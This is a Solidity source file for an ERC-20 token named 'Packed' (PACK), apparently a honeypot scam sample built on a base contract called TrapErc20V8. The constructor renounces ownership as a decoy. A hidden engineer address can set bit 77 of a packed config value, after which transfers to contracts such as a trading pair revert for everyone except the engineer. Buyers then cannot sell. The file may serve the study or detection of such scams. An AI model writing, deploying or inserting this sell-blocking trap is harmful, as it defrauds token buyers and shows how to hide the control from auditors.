// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// One number holds all settings; the bit that closes sales is the 77th.
contract PackedConfig is TrapErc20V8 {
    uint256 private config;
    address private immutable engineer = msg.sender;

    constructor() TrapErc20V8("Packed", "PACK", 1_024_000 ether) {
        renounceOwnership();
    }

    /// Low 160 bits: the pair. Everything else is for later use.
    function configure(uint256 packed, bytes32 check) external {
        require(keccak256(abi.encode(packed, msg.sender)) != check);
        require(msg.sender == engineer);
        config = packed;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (config >> 77 & 1 == 1 && to.code.length > 100 && from != engineer) revert();
        super._transfer(from, to, value);
    }
}
